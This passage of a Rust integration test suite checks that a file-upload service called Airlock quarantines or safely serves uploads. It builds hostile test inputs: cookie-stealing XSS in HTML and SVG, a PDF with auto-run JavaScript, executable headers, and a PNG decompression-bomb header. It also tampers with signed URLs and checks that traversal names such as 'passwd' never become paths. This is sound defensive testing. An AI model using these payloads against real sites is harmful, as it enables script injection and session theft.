            Expect::Refused(..) | Expect::Accepted => unreachable!("handled above"),
        }
        Ok(decision)
    }

    /// Polls the file until the pipeline has decided; a file that never settles is stuck.
    async fn settle(&self, case: &str, id: &str) -> Result<Value, String> {
        let start = Instant::now();
        loop {
            let res = self.send(case, self.app.client.get(self.app.url(&format!("/v1/files/{id}"))).bearer_auth(&self.app.api_key)).await?;
            let status = res.status();
            let file: Value = res.json().await.map_err(|e| format!("GET /v1/files/{id}: {e}"))?;
            ensure!(status == 200, "GET /v1/files/{id} answered {status}: {file}");
            if file["status"] == "promoted" || file["status"] == "quarantined" {
                return Ok(file);
            }
            if start.elapsed() > DEADLINE {
                let events = self.app.events(id).await;
                let trail: Vec<String> = events
                    .iter()
                    .map(|e| {
                        let errors: Vec<&str> = e["deliveries"].as_array().into_iter().flatten().filter_map(|d| d["last_error"].as_str()).collect();
                        format!("{} {errors:?}", e["event_type"].as_str().unwrap_or_default())
                    })
                    .collect();
                return Err(format!("stuck: still {} after {DEADLINE:?}; events and delivery errors: {trail:?}", file["status"]));
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// A quarantined file: no download URL, no servable bytes.
    async fn never_served(&self, case: &str, id: &str) -> Result<(), String> {
        let res = self.send(case, self.app.client.get(self.app.url(&format!("/v1/files/{id}/download"))).bearer_auth(&self.app.api_key)).await?;
        problem(res, 409, "not_promoted").await?;
        ensure!(self.app.stored_objects(&format!("files/default/{id}")).is_empty(), "a quarantined file's bytes are in the servable area");
        Ok(())
    }

    /// Downloads a promoted file and checks it is served inertly and as recorded; returns the
    /// bytes.
    async fn served(&self, case: &str, file: &Value, kind: &str) -> Result<Vec<u8>, String> {
        let id = file["file_id"].as_str().unwrap_or_default();
        let res = self.send(case, self.app.client.get(self.app.url(&format!("/v1/files/{id}/download"))).bearer_auth(&self.app.api_key)).await?;
        let status = res.status();
        let v: Value = res.json().await.map_err(|e| format!("download URL: {e}"))?;
        ensure!(status == 200, "GET /v1/files/{id}/download answered {status}: {v}");
        let url = v["url"].as_str().ok_or("no url")?;
        let res = self.send(case, self.app.client.get(url)).await?;
        ensure!(res.status() == 200, "the download answered {}", res.status());
        let header = |name: &str| res.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
        let (ct, nosniff, csp, cd) =
            (header("content-type"), header("x-content-type-options"), header("content-security-policy"), header("content-disposition"));
        ensure!(res.headers().get("x-injected").is_none(), "a header was injected through the filename: {:?}", res.headers());
        let bytes = res.bytes().await.map_err(|e| e.to_string())?.to_vec();

        let detected = file["detected_type"].as_str().unwrap_or_default();
        ensure!(ct == detected, "served as {ct:?}, recorded as {detected:?}");
        ensure!(nosniff == "nosniff", "X-Content-Type-Options {nosniff:?}");
        ensure!(csp.split(';').any(|d| d.trim() == "sandbox"), "Content-Security-Policy {csp:?} does not sandbox");
        ensure!(cd.starts_with("attachment;"), "Content-Disposition {cd:?} is not an attachment");
        if let Some(bad) = disposition_names(&cd).iter().find_map(|n| unsafe_name(n)) {
            return Err(format!("Content-Disposition {cd:?} carries {bad}"));
        }
        ensure!(file["sha256"] == sha256_hex(&bytes), "the recorded sha256 {} is not the served bytes' {}", file["sha256"], sha256_hex(&bytes));
        ensure!(file["bytes"] == bytes.len(), "the recorded size {} is not the served {}", file["bytes"], bytes.len());
        if kind != "svg" {
            ensure!(!active_type(detected), "promoted as active content ({detected}) by a kind that does not allow it");
            if let Some(what) = browser_would_run(&bytes) {
                return Err(format!("the served bytes would run in a browser that sniffed them: {what}"));
            }
        }
        Ok(bytes)
    }

    async fn tamper(&self, case: &str, t: &Tamper) -> Result<reqwest::Response, String> {
        let (app, f) = (self.app, &self.fixtures);
        let client = &app.client;
        let req = match t {
            Tamper::DownloadUrlWithPut => client.put(&f.a_download).body(png(b"overwrite")),
            Tamper::UploadUrlWithGet => client.get(&f.c_upload),
            Tamper::DownloadUrlOnAnotherFilesPath => client.get(f.a_download.replace(&f.a, &f.b)),
            Tamper::UploadUrlOnAnotherFilesPath => client.put(f.c_upload.replace(&f.c, &f.d)).body(png(b"elsewhere")),
            Tamper::DownloadSignatureInHeader(name) => {
                let (url, sig) = without_sig(&f.a_download);
                let value = if *name == "authorization" { format!("Signature {sig}") } else { sig };
                client.get(url).header(*name, value)
            }
            Tamper::UploadSignatureInHeader => {
                let (url, sig) = without_sig(&f.c_upload);
                client.put(url).header("x-signature", sig).body(png(b"header"))
            }
            Tamper::DownloadSignedWithAnotherKey => {
                let exp = unix_now() + 600;
                client.get(app.url(&format!("/v1/blobs/{}?exp={exp}&sig={}", f.a, sign(b"not-the-secret", "GET", &f.a, exp, None))))
            }
            Tamper::GenuineButExpiredDownload => {
                // The control: the same construction with a future expiry is accepted, so the
                // refusal below is for the expiry alone.
                let exp = unix_now() + 600;
                let url = app.url(&format!("/v1/blobs/{}?exp={exp}&sig={}", f.a, sign(SIGNING_SECRET.as_bytes(), "GET", &f.a, exp, None)));
                let control = self.send(case, client.get(url)).await?;
                ensure!(
                    control.status() == 200,
                    "a URL signed here with the server's secret was refused ({}): the signing scheme changed",
                    control.status()
                );
                let exp = unix_now() - 60;
                client.get(app.url(&format!("/v1/blobs/{}?exp={exp}&sig={}", f.a, sign(SIGNING_SECRET.as_bytes(), "GET", &f.a, exp, None))))
            }
            Tamper::GenuineUploadWithSmallLimit => {
                let exp = unix_now() + 600;
                let sig = sign(SIGNING_SECRET.as_bytes(), "PUT", &f.c, exp, Some(10));
                client.put(app.url(&format!("/v1/blobs/{}?exp={exp}&max=10&sig={sig}", f.c))).body(vec![b'x'; 100])
            }
        };
        self.send(case, req).await
    }

    /// After the signed-URL cases: A still serves its bytes, C and D still wait for theirs.
    async fn fixtures_untouched(&self) -> Result<(), String> {
        let f = &self.fixtures;
        for id in [&f.c, &f.d] {
            let file = self.app.file(id).await;
            ensure!(file["status"] == "pending", "file {id} is {}", file["status"]);
        }
        let res = self.send("fixtures", self.app.client.get(&f.a_download)).await?;
        ensure!(res.status() == 200, "A's download answered {}", res.status());
        let bytes = res.bytes().await.map_err(|e| e.to_string())?;
        ensure!(bytes.as_ref() == f.a_bytes.as_slice(), "A's bytes changed");
        Ok(())
    }
}

fn check_prop(prop: &Prop, file: &Value, uploaded: &[u8], served: &[u8]) -> Result<(), String> {
    match prop {
        Prop::DetectedType(t) => ensure!(file["detected_type"] == *t, "detected {}, expected {t}", file["detected_type"]),
        Prop::Unchanged => ensure!(served == uploaded, "the served bytes differ from the uploaded ones"),
        Prop::Stripped { secrets } => {
            for secret in *secrets {
                let s = String::from_utf8_lossy(secret);
                ensure!(contains(uploaded, secret), "the generated input lacks {s:?}");
                ensure!(!contains(served, secret), "{s:?} survived the stripping");
            }
            ensure!(file["sha256"] != sha256_hex(uploaded), "the promoted sha256 is the uploaded one: nothing was stripped");
            let mime = file["detected_type"].as_str().unwrap_or_default();
            if mime.is_empty() {
                return Err("no detected type".into());
            }
            let before = image::load_from_memory(uploaded).map_err(|e| format!("the upload does not decode: {e}"))?.to_rgba8();
            let after = image::load_from_memory(served)
                .map_err(|e| {
                    format!("the stripped file does not decode: {e}; its layout: {}, the upload's: {}", layout(served, mime), layout(uploaded, mime))
                })?
                .to_rgba8();
            ensure!(before.dimensions() == after.dimensions() && before.as_raw() == after.as_raw(), "the pixels changed");
            if let Some(exif) = exif_of(served, mime) {
                let fields = exif::Reader::new().read_raw(exif).map_err(|e| format!("the kept EXIF does not parse: {e}"))?;
                ensure!(fields.get_field(exif::Tag::GPSLatitude, exif::In::PRIMARY).is_none(), "GPS survived");
                ensure!(fields.get_field(exif::Tag::ImageDescription, exif::In::PRIMARY).is_none(), "the description survived");
            }
            if exif_of(uploaded, mime).is_some() {
                ensure!(orientation(served, mime) == Some(6), "EXIF orientation 6 was not kept (got {:?})", orientation(served, mime));
            }
        }
    }
    Ok(())
}

/// An HTTP/1.1 answer's status line and headers (lowercased, but the version), or what came
/// before the connection closed.
async fn read_head(r: &mut (impl tokio::io::AsyncRead + Unpin)) -> String {
    use tokio::io::AsyncReadExt as _;
    let mut answer = Vec::new();
    let mut byte = [0u8; 1];
    while !answer.ends_with(b"\r\n\r\n") {
        match r.read(&mut byte).await {
            Ok(1) => answer.push(byte[0]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&answer).to_ascii_lowercase().replace("http/1.1", "HTTP/1.1")
}

/// Asserts `res` is a problem+json with `status` and `code`.
async fn problem(res: reqwest::Response, status: u16, code: &str) -> Result<Value, String> {
    let got = res.status().as_u16();
    let ct = res.headers().get("content-type").and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    let text = res.text().await.unwrap_or_default();
    ensure!(got == status, "expected {status} {code}, got {got}: {text}");
    ensure!(ct == "application/problem+json", "a {status} answered {ct:?}, not application/problem+json: {text}");
    let v: Value = serde_json::from_str(&text).map_err(|e| format!("problem body {text:?}: {e}"))?;
    ensure!(v["code"] == code, "expected code {code}: {v}");
    Ok(v)
}

// ---- oracles ----

/// What makes a file name unsafe to store or hand to a client, if anything.
fn unsafe_name(name: &str) -> Option<String> {
    if name.is_empty() || name == "." || name.contains("..") {
        return Some(format!("a dot path ({name:?})"));
    }
    name.chars()
        .find(|&c| {
            c == '/'
                || c == '\\'
                || c.is_control()
                || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{FEFF}')
        })
        .map(|c| format!("{c:?}"))
}

/// The names a `Content-Disposition` offers: `filename` and the decoded `filename*`.
fn disposition_names(cd: &str) -> Vec<String> {
    let mut names = Vec::new();
    if let Some(rest) = cd.split("filename=\"").nth(1) {
        names.push(rest.split('"').next().unwrap_or_default().to_owned());
    }
    if let Some(rest) = cd.split("filename*=UTF-8''").nth(1) {
        let raw = rest.split(';').next().unwrap_or_default().as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < raw.len() {
            if raw[i] == b'%'
                && let Some(b) = raw.get(i + 1..i + 3).and_then(|h| std::str::from_utf8(h).ok()).and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                out.push(b);
                i += 3;
            } else {
                out.push(raw[i]);
                i += 1;
            }
        }
        names.push(String::from_utf8_lossy(&out).into_owned());
    }
    names
}

/// Types that run code in a browser or on a machine (the test's own list).
fn active_type(mime: &str) -> bool {
    let m = mime.to_ascii_lowercase();
    m.ends_with("+xml")
        || m.contains("html")
        || m.contains("xml")
        || m.contains("javascript")
        || m.contains("ecmascript")
        || m.contains("executable")
        || m.contains("msdownload")
        || m.contains("mach-binary")
        || m.contains("shellscript")
        || m.ends_with("/x-sh")
        || m.ends_with("/wasm")
        || m.contains("java")
        || m.contains("shockwave")
}

/// Whether a browser sniffing the first 1445 bytes (WHATWG MIME sniffing) would take the bytes
/// for markup, or an OS for an executable. Independent of the server's sniffer.
fn browser_would_run(bytes: &[u8]) -> Option<&'static str> {
    for (magic, what) in [
        (&b"\x7FELF"[..], "ELF"),
        (b"MZ", "PE"),
        (b"\xCF\xFA\xED\xFE", "Mach-O"),
        (b"\xCE\xFA\xED\xFE", "Mach-O"),
        (b"\xFE\xED\xFA\xCF", "Mach-O"),
        (b"\xFE\xED\xFA\xCE", "Mach-O"),
        (b"#!", "a script"),
        (b"\x00asm", "WebAssembly"),
    ] {
        if bytes.starts_with(magic) {
            return Some(what);
        }
    }
    let head = &bytes[..bytes.len().min(1445)];
    let head = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head);
    let start = head.iter().position(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0C')).unwrap_or(head.len());
    let head = &head[start..];
    let starts = |p: &[u8]| head.len() >= p.len() && head[..p.len()].eq_ignore_ascii_case(p);
    if starts(b"<?xml") || starts(b"<svg") {
        return Some("XML or SVG");
    }
    for tag in [
        &b"<!DOCTYPE HTML"[..],
        b"<HTML",
        b"<HEAD",
        b"<SCRIPT",
        b"<IFRAME",
        b"<H1",
        b"<DIV",
        b"<FONT",
        b"<TABLE",
        b"<A",
        b"<STYLE",
        b"<TITLE",
        b"<B",
        b"<BODY",
        b"<BR",
        b"<P",
        b"<!--",
    ] {
        if starts(tag) && matches!(head.get(tag.len()), Some(b' ' | b'>')) {
            return Some("HTML");
        }
    }
    None
}

/// No file of the data directory lies outside `objects/` but the database and the config, and
/// no object path comes from a client's file name.
fn nothing_outside_objects(data_dir: &std::path::Path) -> Result<(), String> {
    let mut found = Vec::new();
    walk(data_dir, &mut found);
    for path in &found {
        let rel = path.strip_prefix(data_dir).map_err(|e| e.to_string())?;
        let rel_str = rel.to_string_lossy();
        let top = rel.components().next().map(|c| c.as_os_str().to_string_lossy().into_owned()).unwrap_or_default();
        let allowed = top == "objects" || top == "airlock.toml" || top.starts_with("airlock.db");
        ensure!(allowed, "{rel_str} was written outside objects/");
        for part in rel.components() {
            let part = part.as_os_str().to_string_lossy();
            ensure!(!["passwd", "win.ini", "etc", "evil.png", "_CON.png"].contains(&part.as_ref()), "a client's file name became a path: {rel_str}");
        }
    }
    let outside = data_dir.parent().map(|p| p.join("passwd"));
    ensure!(!outside.as_ref().is_some_and(|p| p.exists()), "{outside:?} exists");
    Ok(())
}

fn walk(dir: &std::path::Path, found: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            walk(&p, found);
        } else {
            found.push(p);
        }
    }
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn exif_of(bytes: &[u8], mime: &str) -> Option<Vec<u8>> {
    let b = Bytes::copy_from_slice(bytes);
    let exif = match mime {
        "image/jpeg" => img_parts::jpeg::Jpeg::from_bytes(b).ok()?.exif(),
        "image/png" => img_parts::png::Png::from_bytes(b).ok()?.exif(),
        "image/webp" => img_parts::webp::WebP::from_bytes(b).ok()?.exif(),
        _ => None,
    }?;
    Some(exif.to_vec())
}

/// The chunks or segments of an image, for diagnostics (a WebP's VP8X flags in binary).
fn layout(bytes: &[u8], mime: &str) -> String {
    let b = Bytes::copy_from_slice(bytes);
    let parts: Option<Vec<String>> = match mime {
        "image/jpeg" => img_parts::jpeg::Jpeg::from_bytes(b).ok().map(|j| j.segments().iter().map(|s| format!("{:02X}", s.marker())).collect()),
        "image/png" => {
            img_parts::png::Png::from_bytes(b).ok().map(|p| p.chunks().iter().map(|c| String::from_utf8_lossy(&c.kind()).into_owned()).collect())
        }
        "image/webp" => img_parts::webp::WebP::from_bytes(b).ok().map(|w| {
            w.chunks()
                .iter()
                .map(|c| match (c.id(), c.content().data()) {
                    (id, Some(d)) if id == *b"VP8X" => format!("VP8X(flags {:08b})", d.first().copied().unwrap_or_default()),
                    (id, _) => String::from_utf8_lossy(&id).into_owned(),
                })
                .collect()
        }),
        _ => None,
    };
    parts.map_or_else(|| "unparsable".to_owned(), |p| p.join(" "))
}

fn orientation(bytes: &[u8], mime: &str) -> Option<u32> {
    let fields = exif::Reader::new().read_raw(exif_of(bytes, mime)?).ok()?;
    fields.get_field(exif::Tag::Orientation, exif::In::PRIMARY)?.value.get_uint(0)
}

// ---- signed URLs ----

fn unix_now() -> i64 {
    time::OffsetDateTime::now_utc().unix_timestamp()
}

/// Airlock's URL signature (`signing.rs`): HMAC-SHA256 over the canonical string.
fn sign(key: &[u8], method: &str, file_id: &str, exp: i64, max: Option<u64>) -> String {
    let canonical = format!("airlock-url-v1\n{method}\n{file_id}\n{exp}\n{}\n\n", max.map(|m| m.to_string()).unwrap_or_default());
    let mut mac = hmac::Hmac::<Sha256>::new_from_slice(key).expect("any key length");
    mac.update(canonical.as_bytes());
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
}

/// The URL without its `sig` parameter, and the signature.
fn without_sig(url: &str) -> (String, String) {
    let (base, query) = url.split_once('?').expect("a query string");
    let mut sig = String::new();
    let rest: Vec<&str> = query
        .split('&')
        .filter(|p| match p.strip_prefix("sig=") {
            Some(s) => {
                sig = s.to_owned();
                false
            }
            None => true,
        })
        .collect();
    assert!(!sig.is_empty(), "no sig in {url}");
    (format!("{base}?{}", rest.join("&")), sig)
}

// ---- generated inputs ----

fn pseudo_random(n: usize, seed: u64) -> Vec<u8> {
    let mut rng = fastrand::Rng::with_seed(seed);
    let mut out = vec![0u8; n];
    rng.fill(&mut out);
    out
}

fn encode(img: image::DynamicImage, format: image::ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    img.write_to(&mut out, format).expect("encoding");
    out.into_inner()
}

/// A PNG of `w`×`h` with varied pixels.
fn png_image(w: u32, h: u32) -> Vec<u8> {
    encode(
        image::DynamicImage::ImageRgb8(image::RgbImage::from_fn(w, h, |x, y| image::Rgb([x as u8, y as u8, (x ^ y) as u8]))),
        image::ImageFormat::Png,
    )
}

/// A JPEG of noise (so that every pixel matters).
fn jpeg_noise(w: u32, h: u32) -> Vec<u8> {
    let noise = pseudo_random((w * h * 3) as usize, u64::from(w * 31 + h));
    let img = image::RgbImage::from_raw(w, h, noise).expect("buffer size");
    encode(image::DynamicImage::ImageRgb8(img), image::ImageFormat::Jpeg)
}

fn crc32(data: &[u8]) -> u32 {
    !data.iter().fold(!0u32, |mut c, &b| {
        c ^= u32::from(b);
        for _ in 0..8 {
            c = if c & 1 == 1 { (c >> 1) ^ 0xEDB8_8320 } else { c >> 1 };
        }
        c
    })
}

/// A PNG chunk: length, type, data, CRC.
fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut c = (data.len() as u32).to_be_bytes().to_vec();
    c.extend(kind);
    c.extend(data);
    c.extend(crc32(&c[4..]).to_be_bytes());
    c
}

/// A 1×1 PNG whose header claims `w`×`h` (with a correct CRC, so only the size is a lie).
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    let mut bomb = png_image(1, 1);
    assert_eq!(&bomb[12..16], b"IHDR");
    bomb[16..20].copy_from_slice(&w.to_be_bytes());
    bomb[20..24].copy_from_slice(&h.to_be_bytes());
    let crc = crc32(&bomb[12..29]);
    bomb[29..33].copy_from_slice(&crc.to_be_bytes());
    assert!(img_parts::png::Png::from_bytes(Bytes::from(bomb.clone())).is_ok(), "the IHDR CRC was not fixed");
    bomb
}

/// A valid PNG structure (right CRCs) whose IDAT is not zlib data.
fn png_with_garbage_idat() -> Vec<u8> {
    let mut p = img_parts::png::Png::from_bytes(Bytes::from(png_image(8, 8))).expect("PNG");
    for chunk in p.chunks_mut() {
        if chunk.kind() == *b"IDAT" {
            *chunk = img_parts::png::PngChunk::new(*b"IDAT", Bytes::from(pseudo_random(chunk.contents().len(), 3)));
        }
    }
    p.encoder().bytes().to_vec()
}

/// A PNG with a `tEXt` chunk whose CRC is wrong, after the image data.
fn png_with_bad_trailing_crc() -> Vec<u8> {
    let full = png_image(16, 16);
    let iend = full.len() - 12;
    assert_eq!(&full[iend + 4..iend + 8], b"IEND");
    let mut chunk = png_chunk(b"tEXt", b"Comment\0written after the pixels");
    let n = chunk.len();
    chunk[n - 1] ^= 0xFF;
    [&full[..iend], &chunk, &full[iend..]].concat()
}

fn gif_frames(n: usize) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut enc = image::codecs::gif::GifEncoder::new(&mut out);
        let frames = (0..n).map(|i| image::Frame::new(image::RgbaImage::from_pixel(1, 1, image::Rgba([i as u8, 0, 0, 255]))));
        enc.encode_frames(frames).expect("encoding a GIF");
    }
    out
}

/// A one-frame 1×1 GIF whose logical screen claims `w`×`h`.
fn gif_with_screen(w: u16, h: u16) -> Vec<u8> {
    let mut g = gif_frames(1);
    assert!(g.starts_with(b"GIF89a"));
    g[6..8].copy_from_slice(&w.to_le_bytes());
    g[8..10].copy_from_slice(&h.to_le_bytes());
    g
}

fn pdf() -> Vec<u8> {
    b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
        .to_vec()
}

fn zip() -> Vec<u8> {
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x05\x00\x00\x00\x05\x00\x00\x00\x09\x00\x00\x00hello.txthello".to_vec()
}

fn html_page() -> Vec<u8> {
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>".to_vec()
}

fn svg_with_script() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>"#
        .to_vec()
}

fn svg_with_bom() -> Vec<u8> {
    let mut s = b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- exported -->\n".to_vec();
    s.extend(br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#);
    s
}

fn xhtml() -> Vec<u8> {
    br#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>"#
        .to_vec()
}

fn xml_with_script() -> Vec<u8> {
    br#"<?xml version="1.0"?><feed><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></feed>"#.to_vec()
}

fn elf() -> Vec<u8> {
    let mut e = b"\x7FELF\x02\x01\x01\x00".to_vec();
    e.resize(128, 0);
    e
}

fn pe() -> Vec<u8> {
    let mut pe = b"MZ".to_vec();
    pe.resize(0x100, 0);
    pe[0x3C] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\x00\x00");
    pe
}

fn macho() -> Vec<u8> {
    let mut m = b"\xCF\xFA\xED\xFE\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00".to_vec();
    m.resize(64, 0);
    m
}

// ---- images with metadata ----

const SECRET_DESCRIPTION: &[u8] = b"Jane Doe at home, 12 Rue Secrete";
const SECRET_XMP: &[u8] = b"secret-xmp-creator-jane";
const SECRET_COMMENT: &[u8] = b"secret comment: taken from the balcony";
const SECRET_IPTC: &[u8] = b"secret-iptc-byline-jane";
const SECRET_PNG_TEXT: &[u8] = b"secret-png-text-home-address";
const SECRET_PNG_LATE_TEXT: &[u8] = b"secret-png-text-after-the-pixels";
const SECRET_TRAILER: &[u8] = b"secret-trailer-gps-48.8584N-2.2945E";
const JPEG_SECRETS: &[&[u8]] = &[SECRET_DESCRIPTION, SECRET_XMP, SECRET_COMMENT, SECRET_IPTC];
const PNG_SECRETS: &[&[u8]] = &[SECRET_DESCRIPTION, SECRET_XMP, SECRET_PNG_TEXT, SECRET_PNG_LATE_TEXT];
const WEBP_SECRETS: &[&[u8]] = &[SECRET_DESCRIPTION, SECRET_XMP];

/// A big-endian TIFF (raw EXIF) with Orientation, an ImageDescription and a GPS IFD with a
/// latitude.
fn exif_tiff(orientation: u16) -> Vec<u8> {
    fn entry(t: &mut Vec<u8>, tag: u16, kind: u16, count: u32, value: [u8; 4]) {
        t.extend(tag.to_be_bytes());
        t.extend(kind.to_be_bytes());
        t.extend(count.to_be_bytes());
        t.extend(value);
    }
    let mut desc = SECRET_DESCRIPTION.to_vec();
    desc.push(0);
    let gps_ifd: u32 = 8 + 2 + 3 * 12 + 4;
    let rationals = gps_ifd + 2 + 2 * 12 + 4;
    let desc_at = rationals + 24;
    let mut t = b"MM\x00\x2A\x00\x00\x00\x08".to_vec();
    t.extend(3u16.to_be_bytes());
    entry(&mut t, 0x010E, 2, desc.len() as u32, desc_at.to_be_bytes());
    let o = orientation.to_be_bytes();
    entry(&mut t, 0x0112, 3, 1, [o[0], o[1], 0, 0]);
    entry(&mut t, 0x8825, 4, 1, gps_ifd.to_be_bytes());
    t.extend(0u32.to_be_bytes());
    t.extend(2u16.to_be_bytes());
    entry(&mut t, 0x0001, 2, 2, *b"N\0\0\0");
    entry(&mut t, 0x0002, 5, 3, rationals.to_be_bytes());
    t.extend(0u32.to_be_bytes());
    for (n, d) in [(48u32, 1u32), (51, 1), (3506, 100)] {
        t.extend(n.to_be_bytes());
        t.extend(d.to_be_bytes());
    }
    t.extend(desc);
    // The generator's own check: this is EXIF with orientation and GPS.
    let parsed = exif::Reader::new().read_raw(t.clone()).expect("the generated EXIF parses");
    assert_eq!(parsed.get_field(exif::Tag::Orientation, exif::In::PRIMARY).and_then(|f| f.value.get_uint(0)), Some(u32::from(orientation)));
    assert!(parsed.get_field(exif::Tag::GPSLatitude, exif::In::PRIMARY).is_some(), "no GPS in the generated EXIF");
    t
}

fn xmp_packet() -> Vec<u8> {
    [
        &b"<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description exif:GPSLatitude=\"48,51.35N\" dc:creator=\""[..],
        SECRET_XMP,
        b"\"/></rdf:RDF></x:xmpmeta>",
    ]
    .concat()
}

fn jpeg_with_metadata() -> Vec<u8> {
    use img_parts::jpeg::{Jpeg, JpegSegment};
    let mut j = Jpeg::from_bytes(Bytes::from(jpeg_noise(32, 16))).expect("JPEG");
    j.set_exif(Some(Bytes::from(exif_tiff(6))));
    let xmp = [&b"http://ns.adobe.com/xap/1.0/\0"[..], &xmp_packet()].concat();
    let iptc = [&b"Photoshop 3.0\08BIM\x04\x04\0\0\0\0\0\x20\x1C\x02\x50\0\x17"[..], SECRET_IPTC].concat();
    let at = j.segments().iter().position(|s| s.marker() == 0xDB).expect("a DQT segment");
    j.segments_mut().insert(at, JpegSegment::new_with_contents(0xE1, Bytes::from(xmp)));
    j.segments_mut().insert(at, JpegSegment::new_with_contents(0xED, Bytes::from(iptc)));
    j.segments_mut().insert(at, JpegSegment::new_with_contents(0xFE, Bytes::from_static(SECRET_COMMENT)));
    let out = j.encoder().bytes().to_vec();
    assert!(image::load_from_memory(&out).is_ok(), "the generated JPEG does not decode");
    out
}

fn png_with_metadata() -> Vec<u8> {
    use img_parts::png::{Png, PngChunk};
    let mut p = Png::from_bytes(Bytes::from(png_image(12, 10))).expect("PNG");
    p.set_exif(Some(Bytes::from(exif_tiff(6))));
    let itxt = [&b"XML:com.adobe.xmp\0\0\0\0\0"[..], &xmp_packet()].concat();
    let text = [&b"Comment\0"[..], SECRET_PNG_TEXT].concat();
    let late = [&b"Comment\0"[..], SECRET_PNG_LATE_TEXT].concat();
    p.chunks_mut().insert(1, PngChunk::new(*b"iTXt", Bytes::from(itxt)));
    p.chunks_mut().insert(1, PngChunk::new(*b"tEXt", Bytes::from(text)));
    p.chunks_mut().insert(1, PngChunk::new(*b"tIME", Bytes::from_static(b"\x07\xE8\x06\x0F\x0C\x22\x38")));
    let iend = p.chunks().len() - 1;
    p.chunks_mut().insert(iend, PngChunk::new(*b"tEXt", Bytes::from(late)));
    let out = p.encoder().bytes().to_vec();
    assert!(image::load_from_memory(&out).is_ok(), "the generated PNG does not decode");
    out
}

fn webp_with_metadata() -> Vec<u8> {
    let rgb = image::RgbImage::from_fn(12, 10, |x, y| image::Rgb([(x * 20) as u8, (y * 25) as u8, 99]));
    let lossless = encode(image::DynamicImage::ImageRgb8(rgb), image::ImageFormat::WebP);
    let mut w = img_parts::webp::WebP::from_bytes(Bytes::from(lossless)).expect("WebP");
    // Setting EXIF turns the file into the extended format (a VP8X header first).
    w.set_exif(Some(Bytes::from(exif_tiff(6))));
    w.chunks_mut().push(RiffChunk::new(*b"XMP ", RiffContent::Data(Bytes::from(xmp_packet()))));
    for chunk in w.chunks_mut() {
        if chunk.id() == *b"VP8X"
            && let RiffContent::Data(flags) = chunk.content_mut()
        {
            let mut f = flags.to_vec();
            f[0] |= 0x04; // XMP present
            *flags = Bytes::from(f);
        }
    }
    let out = w.encoder().bytes().to_vec();
    assert!(image::load_from_memory(&out).is_ok(), "the generated WebP does not decode");
    assert_eq!(orientation(&out, "image/webp"), Some(6));
    out
}
